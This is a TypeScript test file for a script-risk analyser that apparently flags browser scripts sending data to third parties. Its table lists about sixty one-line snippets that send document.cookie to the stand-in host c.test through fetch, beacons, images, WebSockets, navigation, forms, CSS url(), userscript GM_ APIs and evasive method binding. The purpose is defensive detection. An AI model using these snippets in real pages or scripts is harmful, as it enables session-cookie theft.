import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { sinksOf } from "../testing/trace-of.ts";

/** Every API with which a script makes the browser contact a server. */
const SENDING = [
	["fetch", `fetch("https://c.test/", { method: "POST", body: document.cookie })`, "request fetch > < body cookie"],
	[
		"sendBeacon",
		`navigator.sendBeacon("https://c.test/", document.cookie)`,
		"request navigator.sendBeacon > < body cookie",
	],
	[
		"XMLHttpRequest",
		`const x = new XMLHttpRequest(); x.open("POST", "https://c.test/"); x.setRequestHeader("a", document.cookie); x.send(document.cookie)`,
		"request XMLHttpRequest > < body cookie, header cookie",
	],
	["Image", `new Image().src = "https://c.test/?" + document.cookie`, "request img.src > < url cookie"],
	[
		"an img element",
		`document.createElement("img").src = "https://c.test/?" + document.cookie`,
		"request img.src > < url cookie",
	],
	[
		"srcset",
		`document.createElement("img").srcset = "https://c.test/?" + document.cookie`,
		"request img.src > < url cookie",
	],
	["Audio", `new Audio("https://c.test/?" + document.cookie)`, "request Audio > < url cookie"],
	[
		"video poster",
		`document.createElement("video").poster = "https://c.test/?" + document.cookie`,
		"request video.poster > < url cookie",
	],
	[
		"a link",
		`const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "https://c.test/?" + document.cookie`,
		"request link.href > < url cookie",
	],
	[
		"WebSocket",
		`const w = new WebSocket("wss://c.test"); w.send(document.cookie)`,
		"request WebSocket.send > < body cookie",
	],
	["EventSource", `new EventSource("https://c.test/?" + document.cookie)`, "request EventSource > < url cookie"],
	[
		"RTCPeerConnection",
		`new RTCPeerConnection({ iceServers: [{ urls: "stun:c.test", username: document.cookie }] })`,
		"request RTCPeerConnection > < body cookie",
	],
	["window.open", `open("https://c.test/?" + document.cookie)`, "navigation window.open > < url cookie"],
	["location", `location = "https://c.test/?" + document.cookie`, "navigation location > < url cookie"],
	["location.href", `location.href = "https://c.test/?" + document.cookie`, "navigation location.href > < url cookie"],
	[
		"location.assign",
		`location.assign("https://c.test/?" + document.cookie)`,
		"navigation location.assign > < url cookie",
	],
	[
		"location.replace",
		`location.replace("https://c.test/?" + document.cookie)`,
		"navigation location.replace > < url cookie",
	],
	[
		"document.location",
		`document.location = "https://c.test/?" + document.cookie`,
		"navigation document.location > < url cookie",
	],
	["window.location", `window.location = "https://c.test/?" + document.cookie`, "navigation location > < url cookie"],
	[
		"navigation.navigate",
		`navigation.navigate("https://c.test/?" + document.cookie)`,
		"navigation navigation.navigate > < url cookie",
	],
	[
		"a clicked link",
		`const a = document.createElement("a"); a.href = "https://c.test/?" + document.cookie; a.click()`,
		"navigation a.click > < url cookie",
	],
	[
		"a submitted form",
		`const f = document.createElement("form"); f.action = "https://c.test/?" + document.cookie; f.submit()`,
		"submit form.submit > < url cookie",
	],
	[
		"requestSubmit",
		`const f = document.createElement("form"); f.action = "https://c.test/?" + document.cookie; f.requestSubmit()`,
		"submit form.requestSubmit > < url cookie",
	],
	[
		"a frame",
		`const f = document.createElement("iframe"); f.src = "https://c.test/?" + document.cookie`,
		"frame iframe.src > < url cookie",
	],
	[
		"an object",
		`const f = document.createElement("object"); f.data = "https://c.test/?" + document.cookie`,
		"frame object.src > < url cookie",
	],
	[
		"a script",
		`const s = document.createElement("script"); s.src = "https://c.test/?" + document.cookie; document.head.append(s)`,
		"load-code script.src > < url cookie",
	],
	["import()", `import("https://c.test/?" + document.cookie)`, "load-code import() > < url cookie"],
	["Worker", `new Worker("https://c.test/?" + document.cookie)`, "load-code Worker > < url cookie"],
	["importScripts", `importScripts("https://c.test/?" + document.cookie)`, "load-code importScripts > < url cookie"],
	[
		"service worker",
		`navigator.serviceWorker.register("https://c.test/?" + document.cookie)`,
		"load-code serviceWorker.register > < url cookie",
	],
	[
		"GM_xmlhttpRequest",
		`GM_xmlhttpRequest({ url: "https://c.test/", data: document.cookie, headers: { a: document.cookie } })`,
		"request GM_xmlhttpRequest > < body cookie, header cookie",
	],
	[
		"GM.xmlHttpRequest",
		`GM.xmlHttpRequest({ url: "https://c.test/", data: document.cookie })`,
		"request GM_xmlhttpRequest > < body cookie",
	],
	["GM_download", `GM_download("https://c.test/?" + document.cookie, "a")`, "request GM_download > < url cookie"],
	["GM_openInTab", `GM_openInTab("https://c.test/?" + document.cookie)`, "navigation GM_openInTab > < url cookie"],
	[
		"GM_addElement",
		`GM_addElement("script", { src: "https://c.test/?" + document.cookie })`,
		"load-code script.src > < url cookie",
	],
	[
		"GM_addElement img",
		`GM_addElement(document.body, "img", { src: "https://c.test/?" + document.cookie })`,
		"request img.src > < url cookie",
	],
	[
		"GM_addStyle",
		`GM_addStyle("a{background:url(https://c.test/?" + document.cookie + ")}")`,
		"request style url() > < url cookie",
	],
	[
		"setAttribute src",
		`document.createElement("img").setAttribute("src", "https://c.test/?" + document.cookie)`,
		"request img.src > < url cookie",
	],
	["$.post", `$.post("https://c.test/", { a: document.cookie })`, "request jQuery.post > < body cookie"],
	["$.getScript", `$.getScript("https://c.test/a.js")`, "load-code importScripts >"],
	["$().load", `$("body").load("https://c.test/?" + document.cookie)`, "request jQuery.load > < url cookie"],
	[
		"XHR reused",
		`const x = new XMLHttpRequest(); x.open("GET", "/own"); x.send(); x.open("POST", "https://c.test/"); x.send(document.cookie)`,
		"request XMLHttpRequest > < body cookie",
	],
	[
		"a ping",
		`const a = document.createElement("a"); a.ping = "https://c.test/?" + document.cookie; a.href = "/own"; a.click()`,
		"request a.ping > < url cookie",
	],
	[
		"style.setProperty",
		`document.body.style.setProperty("background", "url(https://c.test/?" + document.cookie + ")")`,
		"request style url() > < url cookie",
	],
	[
		"insertRule",
		`document.styleSheets[0].insertRule("a{background:url(https://c.test/?" + document.cookie + ")}")`,
		"request style url() > < url cookie",
	],
	["fetchLater", `fetchLater("https://c.test/?" + document.cookie)`, "request fetch > < url cookie"],
	[
		"meta refresh",
		`const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=https://c.test/?" + document.cookie; document.head.append(m)`,
		"navigation meta refresh > < url cookie",
	],
	[
		"a track",
		`document.createElement("track").src = "https://c.test/?" + document.cookie`,
		"request track.src > < url cookie",
	],
	[
		"an SVG image",
		`document.createElementNS("http://www.w3.org/2000/svg", "image").setAttribute("href", "https://c.test/?" + document.cookie)`,
		"request image.href > < url cookie",
	],
	[
		"setAttributeNS",
		`document.createElement("img").setAttributeNS(null, "src", "https://c.test/?" + document.cookie)`,
		"request img.src > < url cookie",
	],
	[
		"cloneNode",
		`const i = new Image(); const j = i.cloneNode(); j.src = "https://c.test/?" + document.cookie`,
		"request img.src > < url cookie",
	],
	[
		"Object.assign on an element",
		`Object.assign(new Image(), { src: "https://c.test/?" + document.cookie })`,
		"request img.src > < url cookie",
	],
	[
		"Reflect.set",
		`Reflect.set(new Image(), "src", "https://c.test/?" + document.cookie)`,
		"request img.src > < url cookie",
	],
	[
		"a destructured method",
		`const { sendBeacon } = navigator; sendBeacon.call(navigator, "https://c.test/", document.cookie)`,
		"request navigator.sendBeacon > < body cookie",
	],
	[
		"a bound method",
		`const f = window["fe" + "tch"].bind(window); f("https://c.test/?" + document.cookie)`,
		"request fetch > < url cookie",
	],
	[
		"another frame's fetch",
		`document.querySelector("iframe").contentWindow.fetch("https://c.test/?" + document.cookie)`,
		"request fetch > < url cookie",
	],
	[
		"own frame's fetch",
		`const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("https://c.test/?" + document.cookie)`,
		"request fetch > < url cookie",
	],
	["defaultView", `document.defaultView.fetch("https://c.test/?" + document.cookie)`, "request fetch > < url cookie"],
	["unsafeWindow.fetch", `unsafeWindow.fetch("https://c.test/?" + document.cookie)`, "request fetch > < url cookie"],
	[
		"top.location",
		`top.location.href = "https://c.test/?" + document.cookie`,
		"navigation location.href > < url cookie",
	],
	["parent.fetch", `parent.fetch("https://c.test/?" + document.cookie)`, "request fetch > < url cookie"],
	["WebTransport", `new WebTransport("https://c.test/?" + document.cookie)`, "request WebTransport > < url cookie"],
] as const;

/** The same, with the page's own site in the place of the stranger. */
function atHome(code: string): string {
	return code.replaceAll(/(?:https|wss):\/\/c\.test/g, "").replaceAll("stun:c.test", "stun:");
}

describe("sending", () => {
	test.each(SENDING)("%s", (_title, code, expected) => {
		expect(sinksOf(code)).toContain(`${expected.replace(" >", " > third-party c.test")} (purpose)`);
	});

	test.each(SENDING.filter(([, , sink]) => sink.includes("cookie")))("%s: red with the cookie", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test.each(SENDING.filter(([title]) => title !== "RTCPeerConnection"))("%s: to the site itself", (_title, code) => {
		expect(sinksOf(atHome(code)).filter((line) => line.includes("third-party"))).toEqual([]);
		expect(analyzeScript({ code: atHome(code) }).risk_level).not.toBe("red");
	});

	test.each(SENDING)("%s: without a secret", (_title, code) => {
		const plain = sinksOf(code.replaceAll("document.cookie", "String(7)"));
		expect(plain.filter((line) => line.includes("cookie"))).toEqual([]);
	});
});
